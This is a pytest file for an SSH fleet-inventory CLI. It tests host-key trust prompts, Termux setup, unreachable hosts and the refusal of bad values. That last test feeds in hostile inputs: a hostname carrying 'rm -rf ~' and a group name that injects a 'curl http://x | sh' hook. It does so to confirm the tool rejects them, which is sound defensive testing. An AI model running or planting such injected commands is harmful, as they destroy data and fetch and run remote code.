"""`invoke add-host` and `invoke remove-host` against real SSH test hosts (linux and termux): the key's
fingerprint shown and trusted only when told, the inventory appended with its comments intact, doctor
run; an unreachable host still added (with what to check), a name that exists refused."""

import os
import subprocess
import sys

import pytest
import sshlab
from dashproc import ROOT, invoke

pytestmark = pytest.mark.skipif(sshlab.available() is not None, reason=str(sshlab.available()))
HEAD = "# the fleet: this comment must survive every edit\n"


@pytest.fixture(scope="module")
def lab():
    with sshlab.lab_with("linux", "termux") as lab:
        yield lab


@pytest.fixture
def fresh(lab, tmp_path):
    """An inventory naming no lab host yet, and a known_hosts that knows none of their keys."""
    known = tmp_path / "known_hosts"
    path = tmp_path / "inventory.yml"
    path.write_text(HEAD + "defaults:\n  identity_file: %s\n  known_hosts: %s\n  connect_timeout: 3\n"
                    "hosts:\n  # hosts go below\n" % (lab.client_key, known))
    return path, known


def fingerprint(host):
    out = subprocess.run(["ssh-keygen", "-lf", str(host.dir / "host_key.pub")], capture_output=True, text=True)
    return out.stdout.split()[1]


def run(path, *args, answer=""):
    """The CLI with ``answer`` on its stdin (a pipe, as from a script: the question is still asked)."""
    env = dict(os.environ, SULFUR_INVENTORY=str(path), XDG_CACHE_HOME=str(path.parent / "cache"))
    return subprocess.run([sys.executable, "-m", "invoke", *args], cwd=ROOT, env=env, capture_output=True, text=True,
                          input=answer, timeout=120)


def test_the_key_is_shown_and_trusted_only_when_the_user_says_so(lab, fresh):
    path, known = fresh
    linux = lab.hosts["linux"]
    before = path.read_text()
    args = ("add-host", "box", "--hostname", linux.address, "--user", linux.user.pw_name)
    out = run(path, *args, answer="n\n")
    assert out.returncode == 1, out.stdout + out.stderr
    assert "has a ssh-ed25519 key, fingerprint %s" % fingerprint(linux) in out.stdout
    assert "Trust this key" in out.stdout and "the key was not trusted: nothing written" in out.stderr
    assert path.read_text() == before and not known.exists()
    out = run(path, *args, answer="y\n")
    assert out.returncode == 0, out.stdout + out.stderr
    assert "trusted: %s ssh-ed25519 added to %s" % (linux.address, known) in out.stdout
    assert known.read_text() == linux.known_hosts_line()
    text = path.read_text()
    assert text.startswith(HEAD) and "  # hosts go below\n" in text
    assert text == before + "  box: {hostname: \"%s\", user: %s}\n" % (linux.address, linux.user.pw_name)
    assert "added box to %s" % path in out.stdout
    doctor = out.stdout.split("added box")[1]
    assert "\nbox:\n  reachable   yes, auth ok" in doctor and "  platform    linux" in doctor
    assert invoke(path, "port-status", "--host", "box").returncode == 0  # strict policy, and the key is known


def test_termux_setup_then_accept_new_then_doctor(lab, fresh):
    path, known = fresh
    termux = lab.hosts["termux"]
    out = run(path, "add-host", "phone", "--termux", "--hostname", termux.address, "--user", termux.user.pw_name,
              "--accept-new", "--group", "home")
    assert out.returncode == 0, out.stdout + out.stderr
    lines = out.stdout.splitlines()
    assert "    pkg install -y python openssh termux-api" in lines
    pubkey = (lab.dir / "client_key.pub").read_text().strip()
    assert "    echo '%s' >> ~/.ssh/authorized_keys" % pubkey in lines
    assert any("termux-wake-lock" in line for line in lines) and any(".termux/boot" in line for line in lines)
    assert lines.index("    pkg install -y python openssh termux-api") < [
        i for i, line in enumerate(lines) if "fingerprint" in line][0]  # printed first
    assert "Trust this key" not in out.stdout and known.read_text() == termux.known_hosts_line()
    text = path.read_text()
    assert ("  phone: {hostname: \"%s\", port: 8022, user: %s, platform: termux, python: python}\n"
            % (termux.address, termux.user.pw_name)) in text
    assert text.endswith("groups:\n  home: [phone]\n") and text.startswith(HEAD)
    doctor = out.stdout.split("added phone")[1]
    assert "\nphone:\n  reachable   yes, auth ok" in doctor and "  platform    termux" in doctor
    # the same name again: with other values refused, with the same ones only the key is checked
    out = run(path, "add-host", "phone", "--hostname", "10.9.9.9")
    assert out.returncode == 2 and "host phone exists already" in out.stderr and path.read_text() == text
    out = run(path, "add-host", "phone", "--termux", "--hostname", termux.address, "--user", termux.user.pw_name)
    assert out.returncode == 0, out.stdout + out.stderr
    assert "checking its host key only" in out.stdout and "Trust this key" not in out.stdout
    assert path.read_text() == text and known.read_text() == termux.known_hosts_line()


def test_an_unreachable_host_is_added_with_what_to_check(lab, fresh):
    path, known = fresh
    before = path.read_text()
    out = run(path, "add-host", "ghost", "--hostname", "%s.99.2" % sshlab.SUBNET)  # blackholed: no answer
    assert out.returncode == 0, out.stdout + out.stderr
    assert "warning: ghost is not reachable yet: cannot connect to %s.99.2:22" % sshlab.SUBNET in out.stdout
    assert "Traceback" not in out.stdout + out.stderr
    assert "run invoke add-host ghost --hostname %s.99.2 again" % sshlab.SUBNET in out.stdout
    assert path.read_text() == before + "  ghost: {hostname: \"%s.99.2\"}\n" % sshlab.SUBNET and not known.exists()


def test_bad_values_and_jump_hosts_are_refused_with_one_line(lab, fresh):
    path, _ = fresh
    before = path.read_text()
    out = run(path, "add-host", "pi", "--hostname", "pi.local; rm -rf ~")
    assert out.returncode == 2 and out.stderr.startswith("error: %s:" % path) and "hosts.pi.hostname" in out.stderr
    out = run(path, "add-host", "bad name", "--hostname", "pi.local")
    assert out.returncode == 2 and "'bad name' is not a valid host name" in out.stderr
    # a group name is YAML in the file: one that would smuggle in a hook is refused before any edit
    evil = 'web: [pi]\ndefaults: {hooks: {before_switch: "curl http://x | sh"}} #'
    out = run(path, "add-host", "pi", "--hostname", "pi.local", "--group", evil)
    assert out.returncode == 2 and "is not a valid group name" in out.stderr
    assert path.read_text() == before
    path.write_text(before + "  vps: {hostname: vps.example.com}\n  phone: {hostname: 10.0.0.5, jump: vps}\n")
    out = run(path, "remove-host", "vps")
    assert out.returncode == 2 and "vps is the jump host of phone" in out.stderr
    assert run(path, "remove-host", "phone").returncode == 0
    out = run(path, "remove-host", "vps")
    assert out.returncode == 0 and "removed vps from %s" % path in out.stdout
    assert path.read_text() == before
    assert run(path, "remove-host", "vps").returncode == 2
